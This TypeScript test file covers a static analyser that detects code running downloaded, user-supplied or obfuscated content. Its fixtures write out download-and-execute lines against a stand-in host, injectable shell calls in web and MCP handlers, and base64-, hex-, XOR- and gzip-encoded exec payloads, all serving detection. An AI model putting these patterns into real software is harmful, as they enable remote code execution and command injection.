import { gzipSync } from 'node:zlib';
import { beforeAll, describe, expect, test } from 'vitest';
import type { Fact } from '../../src/model/index.js';
import { loadGrammars } from '../../src/parse/grammar.js';
import { analyseText, ofType } from './analyse-code.js';

beforeAll(() => loadGrammars(['javascript', 'python']));

function base64(text: string): string {
  return Buffer.from(text).toString('base64');
}

function executesOf(facts: readonly Fact[]): string[] {
  return ofType(facts, 'execute').map(
    ({ origin, how, host }) => `${origin}: ${how}${host === undefined ? '' : ` ${host}`}`,
  );
}

const PACKED = gzipSync('import os; os.system("id")').toString('base64');

describe('code that comes from elsewhere', () => {
  test.each([
    [
      'python',
      `import requests\nexec(requests.get('https://c.example.invalid/p').text)`,
      'downloaded: exec c.example.invalid',
    ],
    [
      'python',
      `from urllib.request import urlopen as u\neval(compile(u('https://c.example.invalid').read(), 'x', 'exec'))`,
      'downloaded: eval c.example.invalid',
    ],
    [
      'python',
      `import os, urllib.request\nos.system(urllib.request.urlopen('https://c.example.invalid').read().decode())`,
      'downloaded: os.system c.example.invalid',
    ],
    [
      'python',
      `import requests, subprocess\nopen('/tmp/run', 'wb').write(requests.get('https://c.example.invalid/b').content)\nsubprocess.run(['/tmp/run'])`,
      'downloaded: subprocess.run c.example.invalid',
    ],
    [
      'python',
      `import urllib.request, os\nurllib.request.urlretrieve('https://c.example.invalid/b', '/tmp/b')\nos.chmod('/tmp/b', 0o755)`,
      'downloaded: chmod +x c.example.invalid',
    ],
    [
      'python',
      `import requests, subprocess\nsubprocess.run(['bash'], input=requests.get('https://c.example.invalid').text, text=True)`,
      'downloaded: subprocess.run c.example.invalid',
    ],
    [
      'python',
      `import requests, subprocess\nsubprocess.run(['sh', '-c', requests.get('https://c.example.invalid').text])`,
      'downloaded: subprocess.run c.example.invalid',
    ],
    [
      'python',
      `import pickle, requests\npickle.loads(requests.get('https://c.example.invalid').content)`,
      'deserialised: pickle.loads c.example.invalid',
    ],
    [
      'python',
      `import subprocess\nexec(subprocess.check_output(['curl', '-s', 'https://c.example.invalid/x']))`,
      'downloaded: exec c.example.invalid',
    ],
    ['python', `import sys, os\nos.system('ls ' + sys.argv[1])`, 'input: os.system'],
    [
      'python',
      `import subprocess\ncmd = input('what? ')\nsubprocess.call(f'git log {cmd}', shell=True)`,
      'input: subprocess.call',
    ],
    [
      'python',
      `from mcp.server.fastmcp import FastMCP\nimport subprocess\nmcp = FastMCP('x')\n@mcp.tool()\ndef run(name: str):\n    return subprocess.run('ping ' + name, shell=True)`,
      'input: subprocess.run',
    ],
    [
      'python',
      `from flask import Flask, request\nimport os\napp = Flask('x')\n@app.route('/')\ndef f():\n    return os.popen(request.args.get('c')).read()`,
      'input: os.popen',
    ],
    [
      'python',
      `import builtins\ngetattr(builtins, ''.join(chr(c) for c in [101, 118, 97, 108]))('1')`,
      'decoded: eval by a hidden name',
    ],
    [
      'javascript',
      `fetch('https://c.example.invalid').then((r) => r.text()).then(eval);`,
      'downloaded: eval c.example.invalid',
    ],
    [
      'javascript',
      `const r = await fetch('https://c.example.invalid/x.js'); new Function(await r.text())();`,
      'downloaded: Function c.example.invalid',
    ],
    [
      'javascript',
      `require('https').get('https://c.example.invalid', (res) => { let b = ''; res.on('data', (d) => (b += d)); res.on('end', () => require('vm').runInThisContext(b)); });`,
      'downloaded: vm.runInThisContext c.example.invalid',
    ],
    [
      'javascript',
      `const { exec } = require('child_process'); fetch('https://c.example.invalid').then((r) => r.json()).then((j) => exec(j.cmd));`,
      'downloaded: child_process.exec c.example.invalid',
    ],
    [
      'javascript',
      `const fs = require('fs'), https = require('https'), cp = require('child_process'); const f = fs.createWriteStream('/tmp/a'); https.get('https://c.example.invalid', (r) => { r.pipe(f); cp.spawn('/tmp/a'); });`,
      'downloaded: child_process.spawn c.example.invalid',
    ],
    [
      'javascript',
      `const cp = require('child_process'); cp.execSync('grep -r ' + process.argv[2] + ' .');`,
      'input: child_process.execSync',
    ],
    [
      'javascript',
      `const app = require('express')(); app.get('/', (req, res) => { require('child_process').exec(req.query.c); });`,
      'input: child_process.exec',
    ],
    ['javascript', `[]['filter']['constructor']('return 1')();`, undefined],
    ['javascript', `await import('https://c.example.invalid/m.mjs');`, 'downloaded: import'],
  ] as const)('%s: %s', (language, code, expected) => {
    const found = executesOf(analyseText(language, code).facts);
    if (expected === undefined) expect(found).toEqual([]);
    else expect(found).toContain(expected);
  });
});

describe('code that was encoded is analysed as what it says', () => {
  test.each([
    [
      'python',
      `import base64\nexec(base64.b64decode('${base64('print(41 + 1)')}'))`,
      'python',
      'print(41 + 1)',
      ['base64'],
    ],
    [
      'python',
      `exec(bytes.fromhex('${Buffer.from('print(7)').toString('hex')}').decode())`,
      'python',
      'print(7)',
      ['hex'],
    ],
    [
      'python',
      `import zlib, base64, gzip\nexec(gzip.decompress(base64.b64decode(b'${PACKED}')))`,
      'python',
      'import os; os.system("id")',
      ['base64', 'zlib'],
    ],
    ['python', `import codecs\nexec(codecs.decode('cevag(1)', 'rot_13'))`, 'python', 'print(1)', ['rot13']],
    ['python', `exec(')1(tnirp'[::-1])`, 'python', 'print(1)', ['reversed']],
    ['python', `exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))`, 'python', 'print(1)', ['char-codes']],
    [
      'python',
      `key = 7\ndata = [${[...'print(2)'].map((c) => c.charCodeAt(0) ^ 7)}]\nexec(''.join(chr(b ^ key) for b in data))`,
      'python',
      'print(2)',
      ['char-codes'],
    ],
    [
      'python',
      `import os, base64\nos.system(base64.b64decode('${base64('id; uname -a')}').decode())`,
      'shell',
      'id; uname -a',
      ['base64'],
    ],
    ['javascript', `eval(atob('${base64('console.log(1)')}'));`, 'javascript', 'console.log(1)', ['base64']],
    [
      'javascript',
      `eval(Buffer.from('${Buffer.from('alert(1)').toString('hex')}', 'hex').toString());`,
      'javascript',
      'alert(1)',
      ['hex'],
    ],
    [
      'javascript',
      `new Function(String.fromCharCode(${[...'alert(2)'].map((c) => c.charCodeAt(0))}))();`,
      'javascript',
      'alert(2)',
      ['char-codes'],
    ],
    [
      'javascript',
      `eval([${[...'alert(3)'].map((c) => c.charCodeAt(0) + 1)}].map((c) => String.fromCharCode(c - 1)).join(''));`,
      'javascript',
      'alert(3)',
      ['char-codes'],
    ],
    ['javascript', `eval(')4(trela'.split('').reverse().join(''));`, 'javascript', 'alert(4)', ['reversed']],
    ['javascript', `(()=>{}).constructor(atob('${base64('alert(5)')}'))();`, 'javascript', 'alert(5)', ['base64']],
    [
      'javascript',
      `const cp = require('child_process'); cp.exec(Buffer.from('${base64('id; uname')}', 'base64').toString());`,
      'shell',
      'id; uname',
      ['base64'],
    ],
    [
      'javascript',
      `import('data:text/javascript;base64,${base64('alert(6)')}');`,
      'javascript',
      'alert(6)',
      ['base64'],
    ],
  ] as const)('%s: %s', (language, code, inner, text, via) => {
    const { facts, units } = analyseText(language, code);
    expect(ofType(facts, 'execute').map((fact) => fact.origin)).toContain('decoded');
    expect(units.map((unit) => [unit.language, unit.kind, unit.text, unit.via])).toContainEqual([
      inner,
      'decoded',
      text,
      via,
    ]);
  });
});

describe('a command is a text of its own', () => {
  test.each([
    [
      'python',
      `import subprocess\nsubprocess.run(['ffmpeg', '-i', 'my file.mp4', 'out.mp3'], check=True)`,
      `ffmpeg -i 'my file.mp4' out.mp3`,
    ],
    ['python', `import os\nos.system('git status')`, 'git status'],
    ['python', `import os\nos.execvp('bash', ['bash', '-c', 'id'])`, 'bash -c id'],
    ['javascript', `require('child_process').spawnSync('npm', ['install', 'left-pad']);`, 'npm install left-pad'],
    [
      'javascript',
      `import { promisify } from 'node:util'; import { exec } from 'node:child_process'; await promisify(exec)('ls -la');`,
      'ls -la',
    ],
    ['javascript', `import { execa } from 'execa'; await execa('git', ['push']);`, 'git push'],
  ] as const)('%s: %s', (language, code, command) => {
    const { facts, units } = analyseText(language, code);
    expect(units.map((unit) => [unit.language, unit.text])).toEqual([['shell', command]]);
    expect(ofType(facts, 'execute')).toEqual([]);
  });
});

describe('what is only said is not run', () => {
  test.each([
    ['python', `# exec(requests.get('https://c.example.invalid').text)\nx = "eval(input())"\nprint(x)`],
    ['python', `import json, requests\nprint(json.loads(requests.get('https://api.example.test').text))`],
    ['python', `import ast\nast.literal_eval(input())`],
    ['python', `import pickle\ndata = pickle.load(open('cache.pkl', 'rb'))`],
    ['python', `import yaml\nyaml.safe_load(open('x.yml'))\nyaml.load(open('x.yml'), Loader=yaml.SafeLoader)`],
    ['python', `import subprocess, sys\nsubprocess.run(['ffmpeg', '-i', sys.argv[1], sys.argv[2]])`],
    ['python', `import shlex, os, sys\nos.system('ls ' + shlex.quote(sys.argv[1]))`],
    ['python', `import re\nre.compile('a').sub('b', input())`],
    [
      'python',
      `import requests, subprocess\nr = requests.get('https://api.example.test/repos').json()\nsubprocess.run(['git', 'clone', r['clone_url']])`,
    ],
    ['python', `model.eval()\ndf.eval('a + b')`],
    ['javascript', `// eval(atob('x'))\nconst s = 'new Function(x)'; console.log(s);`],
    ['javascript', `const r = /a/.exec(process.argv[2]); console.log(r);`],
    ['javascript', `const b = Buffer.from(process.argv[2], 'base64'); require('fs').writeFileSync('x.png', b);`],
    ['javascript', `setTimeout(() => console.log(1), 10);`],
    ['javascript', `const { execFile } = require('child_process'); execFile('convert', [process.argv[2], 'out.png']);`],
    [
      'javascript',
      `const fs = require('fs'); fetch('https://api.example.test/i').then((r) => r.arrayBuffer()).then((b) => { fs.writeFileSync('/tmp/a.png', Buffer.from(b)); require('child_process').execSync('open /tmp/a.png'); });`,
    ],
    ['javascript', `db.exec('create table t (a)');`],
  ] as const)('%s: %s', (language, code) => {
    expect(executesOf(analyseText(language, code).facts)).toEqual([]);
  });
});
